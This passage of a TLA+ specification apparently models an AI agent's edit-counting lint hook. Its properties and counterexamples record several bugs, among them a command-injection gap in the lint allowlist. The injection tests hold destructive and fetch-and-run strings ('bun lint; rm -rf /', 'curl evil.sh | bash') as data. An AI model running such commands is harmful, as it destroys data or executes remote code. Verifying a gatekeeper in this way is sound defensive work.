  /\ last.count >= last.threshold
  /\ Persisted.editCount = 0
  /\ Persisted.lastLintRun > 0
  /\ Persisted.editedFiles # <<>>

\* C2: an invocation whose tool_name is not an edit-class kind leaves every
\* state file as it was, runs no lint command, creates no task and prints
\* approve, from every reachable state and however often it is repeated.
C2_NonEditEventIsNoOp ==
  [][ (/\ IsSome(last'.stdin)
       /\ ~(/\ IsSome(Get(last'.stdin).tool_name)
            /\ Get(Get(last'.stdin).tool_name) \in EditClassKinds))
      => /\ stateFiles' = stateFiles
         /\ executed' = <<>>
         /\ created' = <<>>
         /\ stdout' = <<"approve">>
         /\ exitCode' = 0 ]_vars
\* C2: a non-edit event arrived while a session had edits counted
C2_NonEditAfterEdits ==
  /\ IsSome(last.stdin)
  /\ Get(last.stdin).tool_name = Some("Bash")
  /\ \E k \in DOMAIN stateFiles : stateFiles[k].editCount > 0
  /\ stdout = <<"approve">>

\* C3: every invocation, whatever fields its event lacks, prints approve
\* exactly once and exits with code 0.  An edit event without cwd, or
\* without tool_input, ends in an uncaught TypeError: this is violated.
C3_AlwaysApproves ==
  last.path # "init" => (stdout = <<"approve">> /\ exitCode = 0)
\* C3: an invocation that ended in the uncaught TypeError
C3_UncaughtTypeError ==
  /\ last.path \in {"throws-cwd", "throws-tool-input"}
  /\ stdout = <<>>
  /\ exitCode # 0

\* C4: for every configured editThreshold t (below 3, in 3..7, above 7, zero
\* or absent) the trigger fires exactly when the incremented editCount is
\* >= min(7, max(3, t)), absent counting as 3; the effective threshold is
\* never below 3 or above 7.
C4_TriggerAtClampedThreshold ==
  Counted =>
    LET T == Clamp(Get(last.config).editThreshold)
    IN  /\ (last.path = "triggered") <=> (last.count >= T)
        /\ last.triggered <=> (last.count >= T)
        /\ last.threshold = T
        /\ last.threshold \in 3..7
\* C4: a configured threshold of 8 fired at the seventh edit
C4_ClampedFromAbove ==
  /\ last.path = "triggered"
  /\ Get(last.config).editThreshold = Some(8)
  /\ last.count = 7

\* C5: from no prior state, with the qualifying edit events of one session
\* processed one after the other under one effective threshold T, the
\* trigger fires on the events numbered T, 2T, 3T, ... and on no other; with
\* the default threshold the third event fires and the first two do not.
C5_FiresOnMultiplesOfThreshold ==
  (Counted /\ track[Get(last.key)].ok) =>
    LET n == track[Get(last.key)].n
        T == track[Get(last.key)].T
    IN  /\ last.triggered <=> (n % T = 0)
        /\ (last.config = Some(DefaultConfig)) =>
             /\ n \in {1, 2} => ~last.triggered
             /\ n = 3 => last.triggered /\ Persisted.editCount = 0
\* C5: the second firing, at event 2T
C5_SecondFiring ==
  /\ Counted
  /\ track[Get(last.key)].ok
  /\ track[Get(last.key)].n = 2 * track[Get(last.key)].T
  /\ last.triggered

\* C6: isValidLintCommand(cmd) is true exactly when cmd is an entry of the
\* allowlist or an entry followed by a space; it is false for the empty
\* string; "bun lint" passes, "bun lint; rm -rf /" and "curl evil.sh | bash"
\* are rejected.
C6_GatekeeperIsAllowlist ==
  /\ ~isValidLintCommand(<<>>)
  /\ (last.triggered /\ Truthy(last.lintCommand)) =>
       LET cmd == Get(last.lintCommand)
       IN  /\ last.accepted <=> OnAllowlist(cmd)
           /\ isValidLintCommand(cmd) <=> OnAllowlist(cmd)
           /\ cmd = CmdBunLint => last.accepted
           /\ cmd \in {CmdInjectSemicolon, CmdCurl} => ~last.accepted
\* C6: the gatekeeper rejected "bun lint; rm -rf /"
C6_SemicolonRejected ==
  /\ last.triggered
  /\ last.lintCommand = Some(CmdInjectSemicolon)
  /\ ~last.accepted

\* C7: when the trigger fires and the resolved lint command is not accepted
\* by the gatekeeper, no lint process is executed, no task is created, no
\* error is raised and the persisted editCount is 0; a lint process is only
\* ever executed with a command the gatekeeper accepts.
C7_RejectedCommandIsSkipped ==
  /\ (/\ last.path = "triggered"
      /\ ~(Truthy(last.lintCommand) /\ isValidLintCommand(Get(last.lintCommand))))
     => /\ executed = <<>>
        /\ created = <<>>
        /\ stdout = <<"approve">>
        /\ exitCode = 0
        /\ Persisted.editCount = 0
  /\ \A i \in 1..Len(executed) : isValidLintCommand(executed[i])
\* C7: a trigger whose configured command the gatekeeper rejected
C7_CurlSkipped ==
  /\ last.path = "triggered"
  /\ last.lintCommand = Some(CmdCurl)
  /\ executed = <<>>
  /\ Persisted.editCount = 0

\* C8: the command handed to shell execution never contains a shell control
\* operator (; & | or a substitution) after an allowlisted lint invocation.  A command
\* that puts a space before the operator passes the gatekeeper: this is
\* violated.
C8_NoShellOperatorExecuted ==
  \A i \in 1..Len(executed) : ~HasShellOperator(executed[i])
\* C8: "bun lint ; rm -rf /" was handed to the shell
C8_InjectionExecuted ==
  /\ executed = <<CmdInjectSpaced>>
  /\ last.accepted

\* C9: one invocation creates at most 5 tasks, and they are the first relevant
\* diagnostics in the order of the lint output; the relevant diagnostics
\* after the fifth produce no task.
C9_AtMostFiveFirstRelevant ==
  /\ Len(created) <= 5
  /\ Len(created) <= Len(last.relevant)
  /\ \A i \in 1..Len(created) : created[i].error = last.relevant[i]
  /\ (last.path = "triggered" /\ IsSome(last.lint) /\ ~Get(last.lint).success) =>
       last.relevant =
         SelectSeq(parseLintOutput(Get(last.lint).output),
                   LAMBDA e : isRelevant(Persisted.editedFiles, e))
\* C9: more than five relevant diagnostics, five tasks
C9_CapReached ==
  /\ Len(last.relevant) > 5
  /\ Len(created) = 5

SuffixContainment(f, e) == endsWith(f, e.file) \/ endsWith(e.file, f)

\* C11: a diagnostic is relevant exactly when some edited file f ends with
\* the diagnostic's file path or the diagnostic's file path ends with f.  The
\* code compares the diagnostic with the last component of f only, so a
\* diagnostic of another directory is relevant too: this is violated.
C11_RelevantIsSuffixContainment ==
  (last.path = "triggered" /\ IsSome(last.lint) /\ ~Get(last.lint).success) =>
    last.relevant =
      SelectSeq(parseLintOutput(Get(last.lint).output),
                LAMBDA e : \E i \in 1..Len(Persisted.editedFiles) :
                             SuffixContainment(Persisted.editedFiles[i], e))
\* C11: a task for lib/a.ts while the only edited file is src/a.ts
C11_TaskForOtherDirectory ==
  /\ last.path = "triggered"
  /\ Persisted.editedFiles = <<FileA>>
  /\ Len(created) = 1
  /\ created[1].error.file = <<"l","i","b","/","a",".","t","s">>
  /\ ~SuffixContainment(FileA, created[1].error)

\* name is letters, a hyphen, then letters, digits and hyphens
HasRepoName(name) ==
  \E h \in 2..(Len(name) - 1) :
    /\ name[h] = "-"
    /\ \A k \in 1..(h - 1) : name[k] \in Letters
    /\ \A k \in (h + 1)..Len(name) : name[k] \in Letters \cup Digits \cup {"-"}
\* the working directories whose last component does not have such a name
UnnamedCwds == { cwd \in KnownCwds : ~HasRepoName(lastComponent(cwd)) }
\* the keywords of a configuration, ["dev"] when it has none
KeywordsOf(config) == IF IsSome(config.keywords) THEN Get(config.keywords) ELSE <<S_dev>>
\* name contains one of the keywords, whatever the case of the letters
NamesKeyword(keywords, name) ==
  \E i \in 1..Len(keywords) :
    LET kw == keywords[i]
    IN  \E at \in 0..(Len(name) - Len(kw)) :
          \A k \in 1..Len(kw) : toLowerChar(name[at + k]) = toLowerChar(kw[k])

\* C12: for an edit-class event, if the last component of cwd does not match
\* the naming pattern, or the configuration is disabled, or the keywords are
\* non-empty and the resolved session name is non-empty and contains none of
\* them (case-insensitively), nothing is counted: every state file stays as
\* it was, no lint runs, no task is created and approve is printed.
C12_FailedGuardCountsNothing ==
  [][ (/\ IsSome(last'.stdin)
       /\ LET ev == Get(last'.stdin)
          IN  /\ IsSome(ev.tool_name)
              /\ Get(ev.tool_name) \in EditClassKinds
              /\ IsSome(ev.cwd)
              /\ \/ Get(ev.cwd) \in UnnamedCwds
                 \/ /\ IsSome(last'.config)
                    /\ Get(last'.config).enabled = Some(FALSE)
                 \/ /\ IsSome(last'.config)
                    /\ Truthy(last'.sessionName)
                    /\ Len(KeywordsOf(Get(last'.config))) > 0
                    /\ ~NamesKeyword(KeywordsOf(Get(last'.config)),
                                     Get(last'.sessionName)))
      => /\ stateFiles' = stateFiles
         /\ executed' = <<>>
         /\ created' = <<>>
         /\ stdout' = <<"approve">>
         /\ exitCode' = 0 ]_vars
\* C12: the session named "feature-xyz" with the keywords ["dev"], after
\* edits were counted
C12_FeatureSessionSkipped ==
  /\ last.sessionName = Some(NameFeature)
  /\ KeywordsOf(Get(last.config)) = <<S_dev>>
  /\ last.path = "keywords"
  /\ \E k \in DOMAIN stateFiles : stateFiles[k].editCount > 0

\* the last invocation read an edit-class event with a file path, in a
\* directory with a repository name, under a configuration that is enabled
PassedToKeywordGuard ==
  /\ IsSome(last.stdin)
  /\ IsSome(last.config)
  /\ Get(last.config).enabled # Some(FALSE)
  /\ LET ev == Get(last.stdin)
     IN  /\ IsSome(ev.tool_name) /\ Get(ev.tool_name) \in EditClassKinds
         /\ IsSome(ev.cwd) /\ Get(ev.cwd) \notin UnnamedCwds
         /\ IsSome(ev.tool_input) /\ Truthy(editedPath(Get(ev.tool_input)))

\* C13: when no session name is resolved for an edit event, the keyword
\* guard is bypassed: the event is counted whatever the keywords and the
\* taskListId of the configuration.  The code checks the keywords against
\* the configured taskListId when there is no session name: this is violated.
C13_NoSessionNameBypassesKeywords ==
  (PassedToKeywordGuard /\ ~Truthy(last.sessionName)) =>
    /\ Counted
    /\ stateFiles[Get(last.key)].editCount = (IF last.triggered THEN 0 ELSE last.count)
\* C13: an event without session name that the keyword guard stopped
C13_StoppedByTaskListId ==
  /\ PassedToKeywordGuard
  /\ last.sessionName = None
  /\ Get(last.config).taskListId = Some(ListBugfix)
  /\ last.path = "keywords"
  /\ stdout = <<"approve">>

\* the event JSON is missing, or lacks one of the fields HookInput requires
MalformedInput(stdin) ==
  \/ ~IsSome(stdin)
  \/ \E f \in {"session_id", "cwd", "tool_name", "tool_input"} : ~IsSome(Get(stdin)[f])

\* C14: an invocation whose input is missing or malformed (unreadable stdin,
\* invalid JSON, JSON lacking a required field) prints approve and has no
\* side effect: no state file created or changed, no lint command run, no
\* task written.  An edit event without cwd ends in an uncaught TypeError
\* and prints nothing: this is violated.
C14_MalformedInputApproves ==
  (last.path # "init" /\ MalformedInput(last.stdin)) =>
    /\ stdout = <<"approve">>
    /\ exitCode = 0
    /\ executed = <<>>
    /\ created = <<>>
    /\ ~IsSome(last.key)
\* C14: a JSON event of an edit-class kind that lacks cwd, and no decision
C14_EditWithoutCwd ==
  /\ IsSome(last.stdin)
  /\ Get(last.stdin).tool_name = Some("Edit")
  /\ Get(last.stdin).cwd = None
  /\ last.path = "throws-cwd"
  /\ "approve" \notin { stdout[i] : i \in 1..Len(stdout) }

\* C15: no two tasks created by one invocation carry the same diagnostic
\* (file, line, column, severity, rule and message), even when the lint
\* output repeats a line.  The code filters and slices the parsed
\* diagnostics and never compares them: this is violated.
C15_TasksAreDeduplicated ==
  \A i, j \in 1..Len(created) : created[i].error = created[j].error => i = j
\* C15: a lint output that repeats a line, and two tasks for one diagnostic
C15_RepeatedLineTwoTasks ==
  /\ last.path = "triggered"
  /\ IsSome(last.lint)
  /\ \E i, j \in 1..Len(last.relevant) : i < j /\ last.relevant[i] = last.relevant[j]
  /\ \E i, j \in 1..Len(created) :
       i < j /\ created[i].error = created[j].error /\ created[i].list = created[j].list

\* C16: an invocation that finds the state file corrupted (no JSON, or JSON
\* that is no SessionState with a numeric editCount and a list editedFiles)
\* behaves as if the file were absent: it counts the event from the fresh
\* state, persists a valid SessionState and approves.  JSON.parse's value is
\* used as it is: null or {} ends in a TypeError, a non-numeric editCount is
\* persisted as null: this is violated.
C16_CorruptedIsAbsent ==
  IsSome(last.corrupted) =>
    /\ stdout = <<"approve">>
    /\ exitCode = 0
    /\ Get(last.key) \in DOMAIN stateFiles
    /\ Get(last.key) \notin DOMAIN damaged
    /\ Persisted = recordEdit(FreshState, Get(editedPath(Get(Get(last.stdin).tool_input))))
\* C16: the state file held {} and the invocation ended without a decision,
\* the file left as it was
C16_EmptyObjectThrows ==
  /\ last.corrupted = Some(CorruptEmptyObject)
  /\ last.path = "throws-state"
  /\ stdout = <<>>
  /\ exitCode # 0
  /\ damaged[Get(last.key)] = CorruptEmptyObject

\* the last invocation ran the lint command, it failed, its output was parsed
LintFailed == last.path = "triggered" /\ IsSome(last.lint) /\ ~Get(last.lint).success
\* the lines of that output
ParsedLines == split(Get(last.lint).output, "\n")
\* the first dialect that line l matches, in the order common, grouped-rule,
\* generic fallback (which takes no line that begins with a space)
Dialect(l) ==
  IF EslintHeads(l) # {} THEN "common"
  ELSE IF BiomeHeads(l) # {} THEN "grouped"
  ELSE IF GenericHeads(l) # {} /\ ~startsWith(l, <<" ">>) THEN "generic"
  ELSE "none"
\* the diagnostic of line l read in dialect d
DiagnosticOf(l, d) ==
  IF d = "common"
  THEN LET h == MatchHead(l, SetMin(EslintHeads(l)))
       IN  [file |-> h.file, line |-> parseInt(h.line), column |-> parseInt(h.column),
            severity |-> EslintTail(l, h.next).severity,
            message |-> EslintTail(l, h.next).message,
            rule |-> EslintTail(l, h.next).rule]
  ELSE IF d = "grouped"
  THEN LET h == MatchHead(l, SetMin(BiomeHeads(l)))
       IN  [file |-> h.file, line |-> parseInt(h.line), column |-> parseInt(h.column),
            severity |-> BiomeTail(l, h.next).severity,
            message |-> BiomeTail(l, h.next).message,
            rule |-> BiomeTail(l, h.next).rule]
  ELSE LET h == MatchHead(l, SetMin(GenericHeads(l)))
       IN  [file |-> h.file, line |-> parseInt(h.line), column |-> parseInt(h.column),
            severity |-> IF includes(toLowerCase(l), S_error) THEN "error" ELSE "warning",
            message |-> GenericTail(l, h.next).message,
            rule |-> None]

\* C17: parseLintOutput yields at most one diagnostic per line of the output,
\* read in the first dialect the line matches (common, then grouped-rule, then
\* generic fallback); the diagnostics are in the order of the lines, a line
\* of no dialect yields nothing, and equal lines yield equal diagnostics, all
\* kept.
C17_OnePerLineFirstDialect ==
  LintFailed =>
    LET hits == SelectSeq(ParsedLines, LAMBDA l : Dialect(l) # "none")
    IN  /\ Len(last.errors) = Len(hits)
        /\ Len(last.errors) <= Len(ParsedLines)
        /\ \A k \in 1..Len(hits) : last.errors[k] = DiagnosticOf(hits[k], Dialect(hits[k]))
\* C17: a line that the common and the grouped-rule pattern both match,
\* twice in the output: two equal diagnostics, read in the common dialect
C17_RepeatedLineOfTwoDialects ==
  /\ LintFailed
  /\ ParsedLines = <<LineBoth, LineBoth>>
  /\ BiomeHeads(LineBoth) # {}
  /\ Len(last.errors) = 2
  /\ last.errors[1] = last.errors[2]
  /\ last.errors[1].line = 3
  /\ last.errors[1].rule = None

\* the fields of lines of the common dialect
CommonFields ==
  [file : {<<"s","r","c","/","a",".","t","s">>},
   line : {7, 10, 12},
   column : {1, 3, 5},
   token : {S_error, S_warning, <<"W","a","r","n","i","n","g">>, S_ERROR},
   message : {<<"'","x","'"," ","i","s"," ","n","e","v","e","r"," ","u","s","e","d">>, <<"w">>, <<"M","i","x","e","d"," ","C","a","s","e">>, <<"e","x","p","e","c","t","e","d"," ","[","a","]"," ","g","o","t"," ","[","b","]">>},
   rule : {None, Some(<<"n","o","-","u","n","u","s","e","d","-","v","a","r","s">>), Some(<<"r","-","1">>), Some(<<"n","o","-","x">>)}]
\* path:line:col: severity message [rule]
CommonLine(c) ==
  c.file \o <<":">> \o toString(c.line) \o <<":">> \o toString(c.column) \o <<":", " ">>
  \o c.token \o <<" ">> \o c.message
  \o (IF IsSome(c.rule) THEN <<" ", "[">> \o Get(c.rule) \o <<"]">> ELSE <<>>)
\* the diagnostic the specification gives the line of fields c
CommonDiagnostic(c) ==
  [file |-> c.file, line |-> c.line, column |-> c.column,
   severity |-> IF toLowerCase(c.token) = S_error THEN "error" ELSE "warning",
   message |-> c.message, rule |-> c.rule]

\* C18: a line path:line:col: severity message [rule], the severity token
\* error or warning in any letter case, parses to the diagnostic with these
\* file, line and column, the token in lower case, the message without the
\* bracketed rule, and the bracket content as rule, unset when there is no
\* bracketed rule.  A message that holds a bracket after a space is cut at
\* that bracket: this is violated.
C18_CommonLineFields ==
  LintFailed =>
    \A c \in CommonFields :
      \A i \in 1..Len(ParsedLines) :
        ParsedLines[i] = CommonLine(c) =>
          /\ \E k \in 1..Len(last.errors) : last.errors[k] = CommonDiagnostic(c)
          /\ Len(ParsedLines) = 1 => last.errors = <<CommonDiagnostic(c)>>
\* C18: the message "expected [a] got [b]" with rule no-x, parsed to the
\* message "expected" and the rule "a] got [b] [no-x"
C18_MessageCutAtBracket ==
  /\ LintFailed
  /\ ParsedLines = <<LineBrackets>>
  /\ LineBrackets = CommonLine([file |-> <<"s","r","c","/","a",".","t","s">>, line |-> 10, column |-> 5, token |-> S_error,
                                message |-> <<"e","x","p","e","c","t","e","d"," ","[","a","]"," ","g","o","t"," ","[","b","]">>, rule |-> Some(<<"n","o","-","x">>)])
  /\ Len(last.errors) = 1
  /\ last.errors[1].message = <<"e","x","p","e","c","t","e","d">>
  /\ last.errors[1].rule = Some(<<"a","]"," ","g","o","t"," ","[","b","]"," ","[","n","o","-","x">>)

\* C19: with invocations of one session that overlap (read, change, write,
\* no lock), the lint run fires at most one qualifying event later or
\* earlier than it does when the same events are processed one after the
\* other, which is at the events numbered T, 2T, ...: once n events are
\* done, it has fired between (n - 1) div T and (n + 1) div T times.  Two
\* invocations that read the same count write the same count: this is
\* violated.
C19_FiresWithinOneEvent ==
  \A k \in DOMAIN track :
    (inflight = {} /\ track[k].ok) =>
      /\ track[k].fired >= (track[k].n - 1) \div track[k].T
      /\ track[k].fired <= (track[k].n + 1) \div track[k].T
\* C19: four qualifying events done under threshold 3, and no lint run
C19_FourEventsNoLint ==
  /\ inflight = {}
  /\ \E k \in DOMAIN track :
       /\ track[k].ok
       /\ track[k].T = 3
       /\ track[k].n = 4
       /\ track[k].fired = 0
       /\ k \in DOMAIN stateFiles
       /\ stateFiles[k].editCount = 2

\* text is the serialization of a complete SessionState
IsSerializedState(text) ==
  \E count \in 0..MaxThreshold, lastLintRun \in 0..MaxNow :
    \E files \in {<<>>, <<FileA>>, <<FileB>>, <<FileA, FileB>>, <<FileB, FileA>>} :
      text = stringifyState([editCount |-> count, editedFiles |-> files,
                             lastLintRun |-> lastLintRun])

\* C20: with invocations of one session that overlap, every state file holds
\* at every moment a complete SessionState: editCount an integer >= 0,
\* editedFiles a list of paths, lastLintRun an integer >= 0.  The file is
\* truncated before it is written, and a shorter text written over a longer
\* one leaves the end of the longer one: this is violated.
C20_StateFileAlwaysValid ==
  /\ DOMAIN damaged = {}
  /\ \A k \in DOMAIN stateFiles :
       /\ stateFiles[k].editCount \in Nat
       /\ stateFiles[k].lastLintRun \in Nat
       /\ IsSerializedState(stringifyState(stateFiles[k]))
\* C20: no invocation in flight, and the state file holds the text of one
\* state followed by the end of another
C20_TornFileAtRest ==
  /\ inflight = {}
  /\ \E k \in DOMAIN damaged :
       /\ damaged[k].json = "invalid"
       /\ ~IsSerializedState(damaged[k].text)
       /\ \E n \in 1..(Len(damaged[k].text) - 1) :
            IsSerializedState(SubSeq(damaged[k].text, 1, n))

\* the editedFiles persisted for key in files, empty when there is no file
FilesOf(files, key) == IF key \in DOMAIN files THEN files[key].editedFiles ELSE <<>>

\* C21: editedFiles is a set in first-occurrence order: a persisted list
\* holds no path twice, and a qualifying event for path p appends p at the
\* end when p is absent and leaves the list as it is when p is present.
C21_EditedFilesIsOrderedSet ==
  [][ (last'.path \in {"counted", "triggered"}) =>
        LET key == Get(last'.key)
            p   == Get(editedPath(Get(Get(last'.stdin).tool_input)))
            old == FilesOf(stateFiles, key)
            new == FilesOf(stateFiles', key)
        IN  /\ new = (IF \E i \in 1..Len(old) : old[i] = p THEN old ELSE Append(old, p))
            /\ \A i, j \in 1..Len(new) : new[i] = new[j] => i = j ]_vars
\* C21: a path edited again after another one: the list keeps both, once
C21_SecondEditOfFirstPath ==
  /\ last.path = "counted"
  /\ Get(Get(last.stdin).tool_input).file_path = Some(FileA)
  /\ Persisted.editedFiles = <<FileA, FileB>>
  /\ Persisted.editCount = 3

\* C22: the persisted lastLintRun of a session stays 0 as long as no lint
\* command has run for it: it leaves 0 only in an invocation of that session
\* that executed a lint command.  The code sets lastLintRun whenever the
\* threshold is reached, also when no lint command is found or the command
\* found is refused: this is violated.
C22_LastLintRunNeedsLintRun ==
  [][ \A k \in DOMAIN stateFiles' :
        (/\ stateFiles'[k].lastLintRun # 0
         /\ (k \in DOMAIN stateFiles => stateFiles[k].lastLintRun = 0))
        => (last'.key = Some(k) /\ executed' # <<>>) ]_vars
\* C22: the threshold reached with no lint command to run, and a lastLintRun
C22_StampedWithoutLintCommand ==
  /\ last.path = "triggered"
  /\ last.lintCommand = None
  /\ executed = <<>>
  /\ Persisted.lastLintRun > 0
  /\ Persisted.editCount = 0

\* C23: tasks are emitted only when createTasks is not disabled and a task
\* list resolves, the configured taskListId first, else a detected list; an
\* invocation that reached the threshold with createTasks false or with no
\* list resolved creates no task, resets the counter and approves.
C23_TasksNeedSwitchAndList ==
  (last.path = "triggered") =>
    LET config == Get(last.config)
    IN  /\ (created # <<>>) =>
             /\ config.createTasks # Some(FALSE)
             /\ Truthy(last.taskListId)
             /\ Truthy(config.taskListId) => last.taskListId = config.taskListId
             /\ \A i \in 1..Len(created) : created[i].list = Get(last.taskListId)
        /\ (config.createTasks = Some(FALSE) \/ ~Truthy(last.taskListId)) =>
             /\ created = <<>>
             /\ stderr = <<>>
             /\ Persisted.editCount = 0
             /\ stdout = <<"approve">>
             /\ exitCode = 0
\* C23: relevant diagnostics, createTasks not disabled, and no list resolved
C23_DiagnosticsWithoutList ==
  /\ last.path = "triggered"
  /\ Len(last.relevant) > 1
  /\ Get(last.config).createTasks = Some(TRUE)
  /\ Get(last.config).taskListId = Some(<<>>)
  /\ ~Truthy(last.taskListId)
  /\ created = <<>>
  /\ Persisted.editCount = 0
  /\ exitCode = 0

\* the line begins with a space or a tab
Indented(l) == l # <<>> /\ l[1] \in {" ", "\t"}
\* the line is left to the generic fallback path:line:col: message
FallbackLine(l) == EslintHeads(l) = {} /\ BiomeHeads(l) = {} /\ GenericHeads(l) # {}
\* C24: the generic fallback yields no diagnostic from a line that begins
\* with a space or a tab; a line it accepts has the severity error exactly
\* when it contains "error" in any letter case, else warning.  The code
\* refuses only a line that begins with a space, a line that begins with a
\* tab yields a diagnostic: this is violated.
C24_FallbackSkipsIndentedLines ==
  LintFailed =>
    LET hits == SelectSeq(ParsedLines,
                          LAMBDA l : \/ EslintHeads(l) # {}
                                     \/ BiomeHeads(l) # {}
                                     \/ GenericHeads(l) # {} /\ ~Indented(l))
    IN  /\ Len(last.errors) = Len(hits)
        /\ \A k \in 1..Len(hits) :
             FallbackLine(hits[k]) =>
               last.errors[k].severity =
                 (IF includes(toLowerCase(hits[k]), S_error) THEN "error" ELSE "warning")
\* C24: a line that begins with a tab, parsed by the generic fallback
C24_TabLineParsed ==
  /\ LintFailed
  /\ ParsedLines = <<LineTab>>
  /\ Indented(LineTab)
  /\ FallbackLine(LineTab)
  /\ Len(last.errors) = 1
  /\ last.errors[1].file[1] = "\t"
  /\ last.errors[1].severity = "error"

\* C25: every diagnostic of parseLintOutput has a line and a column of at
\* least 1; a line of the output whose line or column field is no positive
\* integer is skipped.  The patterns take any run of digits and parseInt
\* gives 0 for "0": this is violated.
C25_LineAndColumnPositive ==
  LintFailed =>
    \A k \in 1..Len(last.errors) :
      last.errors[k].line >= 1 /\ last.errors[k].column >= 1
\* C25: the line src/a.ts:0:0: error x, parsed to a diagnostic at line 0,
\* column 0
C25_ZeroLineParsed ==
  /\ LintFailed
  /\ ParsedLines = <<LineZero>>
  /\ Len(last.errors) = 1
  /\ last.errors[1].line = 0
  /\ last.errors[1].column = 0
  /\ exitCode = 0

\* C26: when the lint command of a triggered invocation exits with success,
\* its output is not parsed and the invocation creates no task and logs
\* nothing, whatever lines the output holds; tasks are created only by an
\* invocation whose lint command has failed.
C26_SuccessfulLintEmitsNothing ==
  /\ (last.path = "triggered" /\ IsSome(last.lint) /\ Get(last.lint).success) =>
       /\ last.errors = <<>>
       /\ last.relevant = <<>>
       /\ created = <<>>
       /\ stderr = <<>>
  /\ (created # <<>>) =>
       /\ last.path = "triggered"
       /\ IsSome(last.lint)
       /\ ~Get(last.lint).success
\* C26: a successful lint run whose output holds six diagnostics of an edited
\* file, with createTasks on and a task list configured
C26_WarningsOfSuccessfulRun ==
  /\ last.path = "triggered"
  /\ IsSome(last.lint)
  /\ Get(last.lint).success
  /\ Len(relevantErrors(parseLintOutput(Get(last.lint).output), <<FileA>>)) = 6
  /\ Get(last.config).createTasks = Some(TRUE)
  /\ Get(last.config).taskListId = Some(ListDev)
  /\ created = <<>>
  /\ Persisted.editCount = 0

\* C27: after any sequence of invocations from no state, under any
\* configurations, the persisted editCount of every session is an integer
\* from 0 to 6, and is below the effective threshold of the invocation that
\* wrote it.  Under an editThreshold that is no number the threshold is NaN,
\* no count reaches it and the count grows without bound: this is violated.
C27_CountBelowSeven ==
  /\ \A k \in DOMAIN stateFiles :
       stateFiles[k].editCount >= 0 /\ stateFiles[k].editCount <= MaxThreshold - 1
  /\ (last.path \in {"counted", "triggered"}) =>
       /\ last.threshold \in MinThreshold..MaxThreshold
       /\ Persisted.editCount < last.threshold
\* C27: the seventh edit counted under editThreshold "high", and a persisted
\* count of 7
C27_SeventhEditCounted ==
  /\ last.path = "counted"
  /\ Get(last.config).editThreshold = NotNumeric(TextHigh)
  /\ executed = <<>>
  /\ Persisted.editCount = MaxThreshold
  /\ exitCode = 0

\* C28: invocations of one session that overlap never both run the lint
\* command for one crossing of the threshold: once k qualifying events are
\* processed under the effective threshold T, the lint command has run at
\* most k div T times, under every interleaving.  Two invocations that read
\* the same count both reach the threshold: this is violated.
C28_OneLintRunPerCrossing ==
  \A k \in DOMAIN track :
    (inflight = {} /\ track[k].ok) => track[k].fired * track[k].T <= track[k].n
\* C28: four qualifying events done under threshold 3, the third and the
\* fourth both having run the lint command
C28_TwoLintRunsOfFourEvents ==
  /\ inflight = {}
  /\ executed = <<CmdBunLint>>
  /\ \E k \in DOMAIN track :
       /\ track[k].ok
       /\ track[k].T = 3
       /\ track[k].n = 4
       /\ track[k].fired = 2
       /\ k \in DOMAIN stateFiles
       /\ stateFiles[k].editCount = 0

\* the SessionState an invocation of session identifier id finds
ObservedState(files, id) ==
  IF sanitizeId(id) \in DOMAIN files THEN Some(files[sanitizeId(id)]) ELSE None
\* C29: the states of the sessions are independent: an invocation of the
\* session identifier A leaves the persisted state that any other session
\* identifier B observes as it is, for identifiers with characters outside
\* a-z A-Z 0-9 _ - and identifiers of more than 100 characters too.  Distinct
\* identifiers share a state file: this is violated.
C29_OtherSessionsUnchanged ==
  [][ \A B \in SessionIds :
        (IsSome(last'.stdin) /\ B # Get(last'.stdin).session_id) =>
          ObservedState(stateFiles', B) = ObservedState(stateFiles, B) ]_vars
\* C29: an invocation of session a/b that wrote the second edit to the state
\* file of session a-b
C29_SlashWritesFileOfDash ==
  /\ last.path = "counted"
  /\ Get(last.stdin).session_id = Some(IdSlash)
  /\ last.key = Some(IdDash)
  /\ sanitizeId(Some(IdDash)) = IdDash
  /\ Persisted.editCount = 2

\* C30: for every session identifier, a string, an empty string or no
\* string, sanitizeId gives a string that is not empty, of at most 100
\* characters, all of a-z A-Z 0-9 _ -, and sanitizeId of that string is that
\* string.
C30_SanitizedIdIsSafe ==
  (IsSome(last.key)) =>
    LET key == Get(last.key)
    IN  /\ key = sanitizeId(Get(last.stdin).session_id)
        /\ Len(key) >= 1
        /\ Len(key) <= 100
        /\ \A i \in 1..Len(key) : key[i] \in Letters \cup Digits \cup {"_", "-"}
        /\ sanitizeId(Some(key)) = key
        /\ \A id \in SessionIds : sanitizeId(Some(sanitizeId(id))) = sanitizeId(id)
\* C30: an identifier of 101 characters, cut to the first 100
C30_LongIdCut ==
  /\ last.path = "counted"
  /\ Get(last.stdin).session_id = Some(LongId("b"))
  /\ Len(Get(last.key)) = SanitizeLimit
  /\ Get(last.key) = [i \in 1..SanitizeLimit |-> "x"]
  /\ Get(last.key) \in DOMAIN stateFiles

\* C31: an edit-class event whose tool_input holds neither a file_path nor
\* a notebook_path is not counted, whatever guards it has passed: every
\* state file stays as it was, no lint command runs, no task is created and
\* approve is printed.
C31_EventWithoutPathNotCounted ==
  [][ (/\ IsSome(last'.stdin)
       /\ IsSome(Get(last'.stdin).tool_name)
       /\ Get(Get(last'.stdin).tool_name) \in EditClassKinds
       /\ IsSome(Get(last'.stdin).cwd)
       /\ IsSome(Get(last'.stdin).tool_input)
       /\ ~Truthy(Get(Get(last'.stdin).tool_input).file_path)
       /\ ~Truthy(Get(Get(last'.stdin).tool_input).notebook_path))
      => /\ stateFiles' = stateFiles
         /\ last'.path \in {"no-file-path", "repo-pattern", "disabled", "keywords"}
         /\ ~last'.triggered
         /\ executed' = <<>>
         /\ created' = <<>>
         /\ stdout' = <<"approve">>
         /\ exitCode' = 0 ]_vars
\* C31: a Write event without a path that passed every guard, arrived when
\* the session was one edit below the threshold
C31_PathlessEventBelowThreshold ==
  /\ last.path = "no-file-path"
  /\ Get(last.stdin).tool_name = Some("Write")
  /\ Get(last.stdin).tool_input = Some(EmptyInput)
  /\ Get(last.config).enabled # Some(FALSE)
  /\ \E k \in DOMAIN stateFiles : stateFiles[k].editCount = 2
  /\ executed = <<>>
  /\ stdout = <<"approve">>
  /\ exitCode = 0

====
